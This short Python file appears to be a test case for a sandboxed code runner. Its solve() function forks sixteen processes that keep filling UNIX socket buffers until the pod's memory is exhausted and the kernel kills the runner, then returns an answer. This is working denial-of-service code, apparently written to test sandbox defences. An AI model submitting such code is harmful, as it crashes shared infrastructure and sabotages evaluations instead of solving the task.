# TRIES: memory in the buffers of UNIX sockets, held by sixteen processes that are as small as can be. SUCCESS: the pod's memory is used up, so
# that the kernel ends the runner with it.
#: check = hurt; late 3
#: timeout = 5

import os
import socket
import time


def solve(x):
    for n in range(16):
        if os.fork() == 0:
            kept = []
            try:
                while True:
                    left, right = socket.socketpair()
                    left.setblocking(False)
                    kept += [left, right]
                    try:
                        while True:
                            left.send(b"x" * 32768)
                    except BlockingIOError:
                        pass
            except OSError:
                time.sleep(5)
            os._exit(0)
    time.sleep(4)
    return 3
